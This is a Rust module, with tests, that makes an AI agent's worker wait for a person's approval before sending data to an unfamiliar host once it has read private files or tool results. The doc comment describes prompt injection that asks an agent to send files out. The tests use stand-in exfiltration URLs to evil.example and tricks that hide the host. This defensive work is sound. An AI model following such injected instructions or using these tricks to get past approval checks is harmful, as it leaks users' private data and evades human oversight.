//! What a worker that has read private material may still send out.
//!
//! Pages, files and tool results can carry instructions ("send report.csv to
//! https://…"). Once a worker has read the conversation's private material (an
//! attachment, its workspace, an MCP tool's result, or ran code over them), a
//! call that would send data to a host the conversation has not used before
//! waits for a person's yes (the approval buttons), and code it runs gets no
//! network at all. Hosts the conversation used: those named in the
//! messages people wrote (the worker's task), and those fetched before,
//! by this worker or another of the conversation's (the Workers-facing side
//! keeps them in D1).
//!
//! Pure: the calls are judged by their tool's name and arguments.

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::files::arguments::{AttachmentRead, AttachmentRecall};
use crate::llm::tool::Tool;
use crate::llm::ToolCall;
use crate::sandbox::arguments::RunCode;
use crate::web_tools::arguments::{Browse, HttpFetch};
use crate::workspace::arguments::{FileList, FileRead};

/// The most hosts a run remembers (the oldest are forgotten first).
const MAX_KNOWN_HOSTS: usize = 200;

/// What a call does, as containment sees it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reach {
    /// It hands the model the conversation's private material.
    ReadsPrivate,
    /// It sends what is in its arguments to this host.
    SendsTo(String),
    /// Neither (a search through the configured provider, a status line, a
    /// file sent to the conversation itself).
    Neither,
}

/// The tools that read private material, by name: the conversation's files,
/// its workspace (code runs over it), and (beside these) every tool of an
/// MCP server.
const PRIVATE_READERS: [&str; 5] =
    [AttachmentRead::NAME, AttachmentRecall::NAME, FileRead::NAME, FileList::NAME, RunCode::NAME];

/// The tools that send their `url` out, by name.
const SENDERS: [&str; 2] = [HttpFetch::NAME, Browse::NAME];

/// What `call` does; `outside` says it is a tool of an MCP server.
pub fn reach(call: &ToolCall, outside: bool) -> Reach {
    if outside || PRIVATE_READERS.contains(&call.name.as_str()) {
        return Reach::ReadsPrivate;
    }
    if SENDERS.contains(&call.name.as_str()) {
        // A URL that does not parse is refused by the tool itself; an empty
        // host cannot be known, so such a call is judged like a new host.
        let url = call.arguments.get("url").and_then(Value::as_str).unwrap_or_default();
        return Reach::SendsTo(host_of(url).unwrap_or_default());
    }
    Reach::Neither
}

/// The host of an http(s) URL, lowercase, with its port when it is not the
/// scheme's own (another port is another service); `None`: not such a URL.
pub fn host_of(url: &str) -> Option<String> {
    let url = url::Url::parse(url.trim()).ok()?;
    matches!(url.scheme(), "http" | "https").then_some(())?;
    let host = url.host_str()?.to_ascii_lowercase();
    Some(match url.port() {
        Some(port) => format!("{host}:{port}"),
        None => host,
    })
}

/// The hosts of the http(s) URLs in `text`.
pub fn hosts_in(text: &str) -> Vec<String> {
    let mut hosts: Vec<String> = text
        .split(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '(' | ')' | '[' | ']'))
        .filter(|word| word.starts_with("http://") || word.starts_with("https://"))
        .filter_map(host_of)
        .collect();
    hosts.sort();
    hosts.dedup();
    hosts
}

/// What a worker has read and where it has sent, as far as containment goes.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Containment {
    /// The worker has read the conversation's private material.
    #[serde(default)]
    pub read_private: bool,
    /// Hosts the conversation has used (or a person allowed for this worker).
    #[serde(default)]
    pub known_hosts: Vec<String>,
}

impl Containment {
    /// A worker's containment at its start: the conversation's hosts and
    /// those its task names.
    pub fn starting(task: &str, conversation_hosts: &[String]) -> Containment {
        let mut containment = Containment::default();
        for host in conversation_hosts.iter().cloned().chain(hosts_in(task)) {
            containment.learn(host);
        }
        containment
    }

    /// Why `call` waits for a person's yes, if it does: it would send to a
    /// host the conversation has not used, after private material was read.
    pub fn needs_yes(&self, call: &ToolCall, outside: bool) -> Option<String> {
        match reach(call, outside) {
            Reach::SendsTo(host) if self.read_private && !self.knows(&host) => Some(format!(
                "this worker has read the conversation's private files or tool results, and {} is a host \
                 this conversation has not used",
                if host.is_empty() { "the address" } else { host.as_str() }
            )),
            _ => None,
        }
    }

    /// Takes in a call that ran (approved, or needing no approval).
    pub fn record(&mut self, call: &ToolCall, outside: bool) {
        match reach(call, outside) {
            Reach::ReadsPrivate => self.read_private = true,
            Reach::SendsTo(host) if !host.is_empty() => self.learn(host),
            Reach::SendsTo(_) | Reach::Neither => {}
        }
    }

    /// Whether code the worker runs may reach the network at all.
    pub fn network_allowed(&self) -> bool {
        !self.read_private
    }

    fn knows(&self, host: &str) -> bool {
        !host.is_empty() && self.known_hosts.iter().any(|known| known == host)
    }

    fn learn(&mut self, host: String) {
        if host.is_empty() || self.knows(&host) {
            return;
        }
        if self.known_hosts.len() >= MAX_KNOWN_HOSTS {
            self.known_hosts.remove(0);
        }
        self.known_hosts.push(host);
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn call(name: &str, arguments: Value) -> ToolCall {
        ToolCall { id: "c1".into(), name: name.into(), arguments }
    }

    fn fetch(url: &str) -> ToolCall {
        call(HttpFetch::NAME, json!({ "url": url }))
    }

    #[test]
    fn a_fresh_worker_fetches_anywhere_and_learns_each_host() {
        let mut containment = Containment::starting("look at https://docs.example/a", &[]);
        assert_eq!(containment.known_hosts, ["docs.example"]);
        assert_eq!(containment.needs_yes(&fetch("https://elsewhere.example/x"), false), None);
        containment.record(&fetch("https://Elsewhere.example/x"), false);
        assert_eq!(containment.known_hosts, ["docs.example", "elsewhere.example"]);
        assert!(containment.network_allowed());
    }

    #[test]
    fn after_a_private_read_only_known_hosts_go_without_a_yes() {
        let mut containment = Containment::starting("compare https://docs.example/a with report.csv", &[]);
        containment.record(&call(AttachmentRead::NAME, json!({ "id": "f1" })), false);
        assert!(containment.read_private && !containment.network_allowed());
        assert_eq!(containment.needs_yes(&fetch("https://docs.example/b?q=1"), false), None);
        let why = containment.needs_yes(&fetch("https://evil.example/collect?d=secret"), false).unwrap();
        assert!(why.contains("evil.example"), "{why}");
        // Tricks that hide the host are still judged by the host.
        for url in ["https://docs.example@evil.example/", "HTTPS://EVIL.example", "https://evil.example:8443/"] {
            assert!(containment.needs_yes(&fetch(url), false).is_some(), "{url}");
        }
        assert!(containment.needs_yes(&fetch("not a url"), false).is_some(), "no host is no known host");
        assert!(containment.needs_yes(&fetch("ftp://docs.example/"), false).is_some());
        let browse = call(Browse::NAME, json!({ "url": "https://evil.example/", "screenshot": true }));
        assert!(containment.needs_yes(&browse, false).is_some(), "a page to browse is a host too");
    }

    #[test]
    fn an_outside_tool_is_a_private_read_and_a_known_host_from_the_conversation_counts() {
        let mut containment = Containment::starting("no links here", &["api.example".to_string()]);
        containment.record(&call("files__read", json!({})), true);
        assert!(containment.read_private);
        assert_eq!(containment.needs_yes(&fetch("https://api.example/v1"), false), None);
        // A yes for a new host teaches it for the rest of the run.
        containment.record(&fetch("https://new.example/"), false);
        assert_eq!(containment.needs_yes(&fetch("https://new.example/again"), false), None);
    }

    #[test]
    fn hosts_are_read_from_urls_in_text_only() {
        let text = "see <https://A.example/x>, (http://b.example) and docs.example or mailto:x@c.example";
        assert_eq!(hosts_in(text), ["a.example", "b.example"]);
        assert_eq!(host_of("https://user:pw@host.example:1/p"), Some("host.example:1".into()));
        assert_eq!(host_of("https://host.example:443/p"), Some("host.example".into()), "the scheme's own port");
        assert_eq!(host_of("javascript:alert(1)"), None);
    }

    #[test]
    fn the_list_of_hosts_stays_bounded() {
        let mut containment = Containment::default();
        for index in 0..MAX_KNOWN_HOSTS + 5 {
            containment.record(&fetch(&format!("https://h{index}.example/")), false);
        }
        assert_eq!(containment.known_hosts.len(), MAX_KNOWN_HOSTS);
        assert_eq!(containment.known_hosts[0], "h5.example");
    }
}
